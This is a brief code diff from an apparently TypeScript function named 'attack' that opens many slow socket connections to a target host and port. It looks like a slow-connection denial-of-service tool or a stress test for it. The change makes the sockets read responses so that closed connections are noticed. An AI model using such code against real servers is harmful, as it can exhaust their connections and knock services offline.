@@ -154,6 +154,8 @@ async function attack(): Promise<void> {
   const waiting = Array.from({ length: slow }, () => {
     const socket = connect(Number(port), hostname);
     socket.on("error", () => {});
+    // Unread, the answer would hide that the connection has ended.
+    socket.resume();
     socket.write(begin);
     return socket;
   });
